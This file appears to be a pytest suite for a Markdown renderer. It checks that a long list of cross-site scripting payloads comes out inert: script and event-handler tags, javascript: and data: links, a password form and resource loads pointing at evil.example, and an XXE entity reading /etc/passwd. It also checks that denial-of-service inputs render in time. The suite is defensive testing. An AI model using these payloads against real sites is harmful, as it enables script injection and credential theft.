"""Hostile Markdown comes out inert and in time."""

import time

import pytest

from hub.markdown import passages, render
from hub.markdown.highlighting import LANGUAGES
from hub.markdown.sanitising import sanitised
from tests.kernel.inert import assert_inert, elements

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>over the page</p>",
    "<a href='#' data-turbo-method=delete>x</a>",
    "<div data-controller=reveal data-action=load->x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<turbo-stream action=remove target=main></turbo-stream>",
    "</p></div></main><script>alert(1)</script>",
    "<x\x00y onclick=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java&#x0A;script:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://hub.example/1)",
    "[a](view-source:javascript:alert(1))",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a](//evil.example/pixel.gif)",
    "![a](/files/../session)",
    "![a](/files/01890f6e-7b5c-7cc0-98c4-dc0c0c07398f/../../session)",
    '![" onerror="alert(1)](/files/01890f6e-7b5c-7cc0-98c4-dc0c0c07398f "\\" onload=\\"alert(1)")',
    "![a\"onerror=alert(1) x=\"](/files/01890f6e-7b5c-7cc0-98c4-dc0c0c07398f)",
    '[a](/x "\\"onmouseover=\\"alert(1)")',
    "[a](/x'onmouseover='alert(1))",
    '[a](https://evil.example/"onmouseover="alert(1))',
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/<script>alert(1)</script>",
    '```"onmouseover="alert(1)\nx\n```',
    '```html\n<script>alert("1")</script>\n```',
    "```python class=evil id=evil\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>|\n|-|\n|alert(1)</script>|",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "@anna\"onclick=alert(1)",
    "[[thread:7\"onclick=alert(1)]]",
    "[[thread:7]]<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "*<b onclick=alert(1)>*",
    "[<img src=x onerror=alert(1)>](/x)",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_inert(attack: str) -> None:
    for text in (attack, f"> - {attack}", f"**{attack}**"):
        made = render(text, base_url="https://hub.example", anchor="post-1", heading_ids=True).html
        assert made
        assert_inert(made)


def test_the_check_for_inert_html_can_fail() -> None:
    for html in (
        "<script></script>",
        "<p onclick=x>",
        '<a href="java\nscript:x">',
        '<img src="/x">',
        "<!-- x -->",
    ):
        with pytest.raises((AssertionError, KeyError)):
            assert_inert(html)


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ('<p id="login" class="dialog" style="top:0">x</p>', '<p id="login">x</p>'),
        ('<p id="Not an id">x</p>', "<p>x</p>"),
        ('<a href="javascript:x" class="mention button">x</a>', '<a class="mention">x</a>'),
        ('<img src="https://evil.example/x.png">', "<img>"),
        ('<code class="language-python evil">x</code>', '<code class="language-python">x</code>'),
        (
            '<a data-reference="thread:7" data-action="x" rel="opener">x</a>',
            '<a data-reference="thread:7">x</a>',
        ),
        ('<input type="password" name="p">', '<input type="checkbox" disabled="">'),
        ("<script>x</script><b>y</b>", "y"),
    ],
)
def test_the_second_wall_stands_alone(html: str, left: str) -> None:
    assert sanitised(html) == left


def test_links_that_leave_carry_their_relation() -> None:
    made = render("[a](https://x.example) [b](//x.example) [c](/x) [d](#y) <a@b.example>").html
    assert [attributes.get("rel") for tag, attributes in elements(made) if tag == "a"] == [
        "nofollow noopener ugc",
        "nofollow noopener ugc",
        None,
        None,
        None,
    ]


def _filled(pattern: str, size: int) -> str:
    return (pattern * (size // len(pattern) + 1))[:size]


@pytest.mark.parametrize(
    "pattern",
    [
        *(
            "[",
            "![",
            "[!",
            "[a](",
            "[[",
            "[*a",
            "*a ",
            "**a *b ",
            "_*a",
            "`a``b```c",
            "<a",
            "<![CDATA[",
            "&#",
        ),
        *(
            "> ",
            "- ",
            "- a\n",
            "a|b\n-|-\n",
            "|-\n",
            "~~a",
            "[a]: b\n",
            "[a]\n",
            "@a ",
            "[@a](",
            "[[thread:7]] ",
        ),
        *(
            "http://a.b/(",
            "https://a.b/)))",
            "a\n\n",
            "# a\n",
            "中**：",
            "- [ ] a\n",
            "\u0323\u0301",
            "[a](<b",
        ),
    ],
)
def test_hostile_patterns_render_in_time(pattern: str) -> None:
    started = time.thread_time()
    made = render(_filled(pattern, 20_000), anchor="p", heading_ids=True).html
    passages(made)
    # Half a second at most; what grows with the square of the length takes many.
    assert time.thread_time() - started < 3
    assert_inert(made)


@pytest.mark.parametrize(
    "text",
    [
        "> " * 50 + "a\n" * 10_000,
        "[x]: /" + "u" * 1900 + "\n\n" + "[x]" * 6_000,
        '[x]: /u "' + "t" * 10_000 + '"\n\n' + "[x]" * 3_000,
        "|".join("a" * 500) + "\n" + "|".join("-" * 500) + "\n" + "a\n" * 5_000,
        "\n".join(">" * depth + " a" for depth in range(200)),
        "\n".join("  " * depth + "- a" for depth in range(200)),
        "[a" * 8_000 + "](b)" * 1_000,
        "*" * 10_000 + "a" + "*" * 10_000,
        "http://a.example/" + "c" * 20_000,
    ],
)
def test_hostile_documents_neither_grow_nor_take_time(text: str) -> None:
    started = time.thread_time()
    made = render(text).html
    assert time.thread_time() - started < 4
    assert len(made) < 1_000_000
    assert_inert(made)


@pytest.mark.parametrize("language", sorted(set(LANGUAGES.values())))
def test_colouring_gives_up_in_time(language: str) -> None:
    render(f"```{language}\nx\n```")
    for pattern in ("\n", "\t", '"\\', "::", "a ", "(", "x\n" * 99 + " " * 150):
        started = time.thread_time()
        render(f"```{language}\n{_filled(pattern, 9_000)}\n```")
        assert time.thread_time() - started < 3
